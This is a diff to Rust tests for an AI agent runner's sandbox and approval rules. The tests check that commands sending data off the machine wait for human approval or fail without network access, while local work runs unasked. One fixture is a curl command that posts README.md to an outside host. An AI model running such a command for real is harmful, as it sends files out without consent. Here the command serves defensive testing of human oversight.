@@ -32,7 +32,9 @@ fn harmless_work_goes_on_and_what_leaves_the_machine_waits_for_a_human() {
     home.wait_for(&harmless, "succeeded");
     assert_eq!(events(&home, &harmless, "tool.judged").len(), 1);
 
-    let leaves = run(&home, "shell: env sh -c 'curl -d @README.md http://example.com'");
+    home.agent("host", &["--sandbox", "none"]);
+    let leaves = "shell: env sh -c 'curl -d @README.md http://example.com'";
+    let leaves = home.run(&["run", "host", leaves, "-o", "name"]).ok().line().to_owned();
     let waiting = home.wait_for(&leaves, "awaiting_approval");
     let prompt = waiting["prompt"].as_str().unwrap();
     assert!(prompt.contains("curl") && prompt.contains("risk"), "{prompt}");
@@ -42,6 +44,50 @@ fn harmless_work_goes_on_and_what_leaves_the_machine_waits_for_a_human() {
     home.run(&["deny", &leaves, "--reason", "not from here"]).ok();
     let failed = home.wait_for(&leaves, "failed");
     assert!(failed["error"].to_string().contains("not from here"), "{failed}");
+}
+
+#[test]
+fn a_network_that_the_sandbox_cannot_give_is_refused_at_once_with_the_way_to_get_it() {
+    let home = Home::up();
+    home.agent("sh", &[]);
+    for task in ["shell: curl -s https://example.com/", "shell: git push origin main"] {
+        let id = run(&home, task);
+        let failed = home.wait_for(&id, "failed");
+        let error = failed["error"].to_string();
+        assert!(error.contains("without network") && error.contains("--network host"), "{error}");
+        assert!(events(&home, &id, "approval.requested").is_empty(), "{task}");
+    }
+    home.run(&["inbox", "--all"]).ok().says("nothing has ever waited for you");
+}
+
+#[test]
+fn in_a_room_of_its_own_a_run_is_not_asked_about_what_stays_there() {
+    let home = Home::up();
+    home.agent("sh", &[]);
+    for command in [
+        "python3 -c 'print(1)'",
+        "mkdir -p src dist && rm -rf dist src",
+        "echo A=1 > .env.example && cp .env.example .env && cat .env",
+        "sleep 9 & kill $!",
+        "cat /etc/nothing || true",
+    ] {
+        // The directory of a run without a project is its own.
+        let call =
+            format!(r#"{{"command": {command:?}, "allow_write": true, "write_subdir": "."}}"#);
+        let call: Value = serde_json::from_str(&call).unwrap();
+        let turns = serde_json::json!([
+            {"calls": [{"name": "run_shell", "args": call}]},
+            {"calls": [{"name": "final_answer", "args": {"message": "done"}}]},
+        ]);
+        let name = format!("s{}", command.len());
+        home.scripted(&name, &turns, &[]);
+        let args = ["run", &name, "go", "-o", "name"];
+        let done = home.command(&args).current_dir(home.path()).output().unwrap();
+        let id = String::from_utf8(done.stdout).unwrap().trim().to_owned();
+        home.wait_for(&id, "succeeded");
+        let called = events(&home, &id, "tool.called");
+        assert_eq!(called[0]["payload_json"]["result"]["ok"], true, "{called:?}");
+    }
 }
 
 #[test]
@@ -114,7 +160,9 @@ fn without_a_policy_file_the_built_in_policy_holds_from_the_first_start() {
     let harmless = run(&home, "shell: echo *; ls && rm -f build.log; pwd");
     home.wait_for(&harmless, "succeeded");
     assert_eq!(events(&home, &harmless, "tool.judged").len(), 1);
-    let asked = run(&home, "shell: git push origin main");
+    home.agent("host", &["--sandbox", "none"]);
+    let push = ["run", "host", "shell: git push origin main", "-o", "name"];
+    let asked = home.run(&push).ok().line().to_owned();
     let waiting = home.wait_for(&asked, "awaiting_approval");
     let prompt = waiting["prompt"].as_str().unwrap();
     assert!(prompt.contains("git push origin main") && prompt.contains("publish"), "{prompt}");
